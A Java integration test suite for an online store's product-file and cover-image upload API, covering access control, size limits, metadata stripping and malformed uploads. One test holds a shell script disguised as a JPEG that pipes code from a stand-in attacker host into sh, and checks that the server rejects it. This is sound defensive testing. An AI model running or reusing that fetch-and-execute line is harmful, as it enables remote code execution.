package com.yumroad.catalog.content;

import com.yumroad.accounts.Accounts;
import com.yumroad.accounts.Registration;
import com.yumroad.catalog.Catalog;
import com.yumroad.catalog.NewProduct;
import com.yumroad.storefront.NewStore;
import com.yumroad.storefront.Storefront;
import com.yumroad.testing.FreshDatabase;
import io.micronaut.context.annotation.Property;
import io.micronaut.json.JsonMapper;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** Product files and covers through the API, against PostgreSQL and the local-disk store. */
@MicronautTest(transactional = false)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Property(name = "yumroad.content.max-file-size", value = "300KB")
@Property(name = "yumroad.login-throttle.per-client", value = "1000")
class ProductContentApiTest implements FreshDatabase {

    /** A 1x1 lossy WebP. */
    private static final byte[] WEBP = Base64.getDecoder().decode("UklGRiQAAABXRUJQVlA4IBgAAAAwAQCdASoBAAEAAwA0JaQAA3AA/vuUAAA=");

    @Inject
    EmbeddedServer server;
    @Inject
    Accounts accounts;
    @Inject
    Storefront storefront;
    @Inject
    Catalog catalog;
    @Inject
    JsonMapper json;

    private final HttpClient http = HttpClient.newHttpClient();
    String ownerToken;
    String otherToken;

    @BeforeAll
    void sellers() throws Exception {
        ownerToken = seller("files-owner@example.com");
        otherToken = seller("files-other@example.com");
    }

    @Test
    void theCreatorUploadsListsRenamesReordersAndRemovesFiles() throws Exception {
        long product = product(ownerToken, "Brush pack");
        byte[] first = bytes(120_000);

        HttpResponse<String> created = upload(product, ownerToken, "brushes.zip", "application/zip", first);
        upload(product, ownerToken, "C:\\fakepath\\readme.txt", "text/plain", "hello".getBytes(StandardCharsets.UTF_8));

        assertThat(created.statusCode()).isEqualTo(201);
        Map<String, Object> file = map(created.body());
        assertThat(file).containsEntry("name", "brushes.zip").containsEntry("size", 120_000)
                .containsEntry("contentType", "application/zip").containsEntry("position", 0)
                .containsKey("createdAt");
        assertThat(created.headers().firstValue("Location")).hasValue(
                "/api/v1/products/" + product + "/files/" + file.get("id"));
        assertThat(names(get("/api/v1/products/" + product + "/files", ownerToken))).containsExactly("brushes.zip", "readme.txt");
        assertThat(storedFiles()).anySatisfy(path -> assertThat(Files.readAllBytes(path)).isEqualTo(first));

        long readme = ((Number) list(get("/api/v1/products/" + product + "/files", ownerToken)).get(1).get("id")).longValue();
        HttpResponse<String> moved = send(HttpRequest.newBuilder(uri("/api/v1/products/" + product + "/files/" + readme))
                .method("PATCH", HttpRequest.BodyPublishers.ofString("{\"name\": \"READ ME.txt\", \"position\": 0}"))
                .header("Content-Type", "application/json"), ownerToken);
        assertThat(moved.statusCode()).isEqualTo(200);
        assertThat(map(moved.body())).containsEntry("name", "READ ME.txt").containsEntry("position", 0);

        Map<String, Object> asOwner = map(get("/api/v1/products/" + product, ownerToken).body());
        assertThat(names(asOwner.get("files"))).containsExactly("READ ME.txt", "brushes.zip");
        assertThat(map(get("/api/v1/products/" + product, otherToken).body())).containsEntry("files", null);
        assertThat(map(get("/api/v1/products/" + product, null).body())).containsEntry("files", null);

        long zip = ((Number) file.get("id")).longValue();
        HttpResponse<String> removed = send(HttpRequest.newBuilder(uri("/api/v1/products/" + product + "/files/" + zip))
                .DELETE(), ownerToken);
        assertThat(removed.statusCode()).isEqualTo(204);
        assertThat(names(get("/api/v1/products/" + product + "/files", ownerToken))).containsExactly("READ ME.txt");
        assertThat(storedFiles()).noneSatisfy(path -> assertThat(Files.size(path)).isEqualTo(first.length));
    }

    @Test
    void anotherUserCanNeitherSeeNorChangeTheFiles() throws Exception {
        long product = product(ownerToken, "Private files");
        long before = storedFiles().size();

        assertThat(get("/api/v1/products/" + product + "/files", otherToken).statusCode()).isEqualTo(403);
        assertThat(upload(product, otherToken, "evil.zip", "application/zip", bytes(10_000)).statusCode()).isEqualTo(403);
        assertThat(upload(product, null, "evil.zip", "application/zip", bytes(10_000)).statusCode()).isEqualTo(401);
        assertThat(storedFiles()).hasSize((int) before);
    }

    @Test
    void anUploadDeclaredLargerThanTheLimitIsRefusedBeforeItsBodyIsStored() throws Exception {
        long product = product(ownerToken, "Too big");
        long before = storedFiles().size();

        HttpResponse<String> answer = upload(product, ownerToken, "huge.bin", "application/octet-stream", bytes(400_000));

        assertThat(answer.statusCode()).isEqualTo(413);
        assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        assertThat(answer.body()).contains("\"field\":\"file\"");
        assertThat(storedFiles()).hasSize((int) before);
        assertThat(get("/api/v1/products/" + product + "/files", ownerToken).body()).isEqualTo("[]");
    }

    @Test
    void aStreamWithoutLengthIsCutOffAtTheLimitAndNothingIsKept() throws Exception {
        long product = product(ownerToken, "Chunked");
        long before = storedFiles().size();
        Multipart body = new Multipart().file("file", "huge.bin", "application/octet-stream", bytes(350_000));

        HttpResponse<String> answer = send(HttpRequest.newBuilder(uri("/api/v1/products/" + product + "/files"))
                .header("Content-Type", body.contentType())
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body.bytes()))), ownerToken);

        assertThat(answer.statusCode()).isEqualTo(413);
        assertThat(storedFiles()).hasSize((int) before);
        assertThat(get("/api/v1/products/" + product + "/files", ownerToken).body()).isEqualTo("[]");
    }

    @Test
    void aCoverIsReEncodedAtEachWidthWithoutItsMetadata() throws Exception {
        long product = product(ownerToken, "Field guide");

        HttpResponse<String> answer = cover(product, ownerToken, "cover.jpg", "image/jpeg",
                Images.jpegWithMetadata(1600, 900), "A heron standing in reeds");

        assertThat(answer.statusCode()).isEqualTo(200);
        String coverUrl = (String) map(answer.body()).get("coverUrl");
        assertThat(coverUrl).matches("/media/covers/" + product + "/[0-9a-f-]{36}-1280\\.jpg");
        for (int width : List.of(320, 640, 1280)) {
            HttpResponse<byte[]> image = http.send(HttpRequest.newBuilder(uri(coverUrl.replace("-1280.", "-" + width + "."))).build(),
                    HttpResponse.BodyHandlers.ofByteArray());
            assertThat(image.statusCode()).isEqualTo(200);
            assertThat(image.headers().firstValue("Content-Type")).hasValue("image/jpeg");
            assertThat(javax.imageio.ImageIO.read(new ByteArrayInputStream(image.body())).getWidth()).isEqualTo(width);
            assertThat(new String(image.body(), StandardCharsets.ISO_8859_1)).doesNotContain(Images.SECRET);
        }
        assertThat(catalog.find(product).orElseThrow().coverAlt()).isEqualTo("A heron standing in reeds");
        assertThat(map(get("/api/v1/products/" + product, null).body())).containsEntry("coverUrl", coverUrl);
    }

    @Test
    void aSmallTransparentPngStaysPngAndIsNotEnlarged() throws Exception {
        long product = product(ownerToken, "Logo");

        String coverUrl = (String) map(cover(product, ownerToken, "logo.png", "image/png", Images.png(200, 100, true), null)
                .body()).get("coverUrl");

        assertThat(coverUrl).endsWith(".png");
        HttpResponse<byte[]> image = http.send(HttpRequest.newBuilder(uri(coverUrl)).build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(javax.imageio.ImageIO.read(new ByteArrayInputStream(image.body())).getWidth()).isEqualTo(200);
        assertThat(catalog.find(product).orElseThrow().coverAlt()).isEqualTo("Logo");
    }

    @Test
    void aWebpCoverIsDecoded() throws Exception {
        long product = product(ownerToken, "Webp");

        HttpResponse<String> answer = cover(product, ownerToken, "cover.webp", "image/webp", WEBP, null);

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat((String) map(answer.body()).get("coverUrl")).endsWith("-1280.jpg");
    }

    @Test
    void aScriptRenamedJpgIsRefusedAndNothingIsStored() throws Exception {
        long product = product(ownerToken, "Sneaky");
        long before = storedFiles().size();
        byte[] script = "#!/bin/sh\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);

        HttpResponse<String> answer = cover(product, ownerToken, "cover.jpg", "image/jpeg", script, null);

        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(answer.body()).contains("\"field\":\"cover\"", "JPEG, PNG or WebP");
        assertThat(storedFiles()).hasSize((int) before);
        assertThat(map(get("/api/v1/products/" + product, null).body())).containsEntry("coverUrl", null);
    }

    @Test
    void aPartThatClaimsToBeMultipartWithoutABoundaryIsABadRequestNotAServerError() throws Exception {
        long product = product(ownerToken, "Nested");
        long before = storedFiles().size();

        HttpResponse<String> cover = cover(product, ownerToken, "x.png", "multipart/mixed", new byte[]{1, 2, 3}, null);
        HttpResponse<String> file = upload(product, ownerToken, "x.pdf", "multipart/mixed", new byte[]{1, 2, 3});

        assertThat(cover.statusCode()).isEqualTo(400);
        assertThat(cover.headers().firstValue("Content-Type")).hasValueSatisfying(
                type -> assertThat(type).startsWith("application/problem+json"));
        assertThat(file.statusCode()).isEqualTo(400);
        assertThat(storedFiles()).hasSize((int) before);
    }

    @Test
    void aFileWhosePartDeclaresAnEmptyTypeIsKeptWithoutOne() throws Exception {
        long product = product(ownerToken, "Untyped");

        HttpResponse<String> answer = upload(product, ownerToken, "notes.txt", "", "plain words".getBytes(StandardCharsets.UTF_8));

        assertThat(answer.statusCode()).isEqualTo(201);
    }

    @Test
    void replacingACoverDeletesTheOldImages() throws Exception {
        long product = product(ownerToken, "Twice");
        String first = (String) map(cover(product, ownerToken, "a.png", "image/png", Images.png(400, 300, false), null)
                .body()).get("coverUrl");

        cover(product, ownerToken, "b.png", "image/png", Images.png(400, 300, false), null);

        assertThat(http.send(HttpRequest.newBuilder(uri(first)).build(), HttpResponse.BodyHandlers.discarding())
                .statusCode()).isEqualTo(404);
    }

    private HttpResponse<String> upload(long product, String token, String name, String type, byte[] content)
            throws IOException, InterruptedException {
        Multipart body = new Multipart().file("file", name, type, content);
        return send(HttpRequest.newBuilder(uri("/api/v1/products/" + product + "/files"))
                .header("Content-Type", body.contentType())
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.bytes())), token);
    }

    private HttpResponse<String> cover(long product, String token, String name, String type, byte[] content, String alt)
            throws IOException, InterruptedException {
        Multipart body = new Multipart();
        if (alt != null) {
            body.field("alt", alt);
        }
        body.file("image", name, type, content);
        return send(HttpRequest.newBuilder(uri("/api/v1/products/" + product + "/cover"))
                .header("Content-Type", body.contentType())
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.bytes())), token);
    }

    private HttpResponse<String> get(String path, String token) throws IOException, InterruptedException {
        return send(HttpRequest.newBuilder(uri(path)).GET(), token);
    }

    private HttpResponse<String> send(HttpRequest.Builder request, String token) throws IOException, InterruptedException {
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private URI uri(String path) {
        return server.getURI().resolve(path);
    }

    private String seller(String email) throws Exception {
        long id = accounts.register(new Registration(email, "Seller", "correct horse")).id();
        storefront.open(id, new NewStore(email + " shop", null));
        HttpResponse<String> token = http.send(HttpRequest.newBuilder(uri("/api/v1/auth/token"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"email\":\"" + email + "\",\"password\":\"correct horse\"}"))
                .build(), HttpResponse.BodyHandlers.ofString());
        return (String) map(token.body()).get("accessToken");
    }

    private long product(String token, String name) throws Exception {
        HttpResponse<String> created = send(HttpRequest.newBuilder(uri("/api/v1/products"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"name\":\"" + name + "\",\"description\":\"\",\"priceCents\":500}")),
                token);
        return ((Number) map(created.body()).get("id")).longValue();
    }

    private List<Path> storedFiles() throws IOException {
        Path dir = files().resolve("files");
        if (!Files.isDirectory(dir)) {
            return List.of();
        }
        try (Stream<Path> paths = Files.walk(dir)) {
            return paths.filter(Files::isRegularFile).toList();
        }
    }

    @SuppressWarnings("unchecked")
    private Map<String, Object> map(String body) throws IOException {
        return json.readValue(body, Map.class);
    }

    @SuppressWarnings("unchecked")
    private List<Map<String, Object>> list(HttpResponse<String> response) throws IOException {
        return json.readValue(response.body(), io.micronaut.core.type.Argument.listOf(
                io.micronaut.core.type.Argument.mapOf(String.class, Object.class)));
    }

    @SuppressWarnings("unchecked")
    private List<String> names(Object files) throws IOException {
        List<Map<String, Object>> list = files instanceof HttpResponse<?> r ? list((HttpResponse<String>) r) : (List<Map<String, Object>>) files;
        return list.stream().map(f -> (String) f.get("name")).toList();
    }

    private static byte[] bytes(int size) {
        byte[] bytes = new byte[size];
        new Random(size).nextBytes(bytes);
        return bytes;
    }
}
